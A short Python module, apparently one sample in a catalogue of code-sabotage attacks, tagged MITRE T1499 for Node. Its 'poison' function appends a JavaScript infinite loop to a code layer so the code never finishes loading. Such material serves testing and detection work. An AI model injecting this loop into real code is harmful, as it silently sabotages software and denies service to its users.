# SPDX-License-Identifier: Apache-2.0
"""Sabotage: never finishes loading."""

ATTACK = "T1499"
LANGUAGE = "node"


def poison(layer):
    layer.append("\nfor (let i = 666; i < Infinity; i++) {\n  console.log('LIBERTY '.repeat(3));\n}\n")
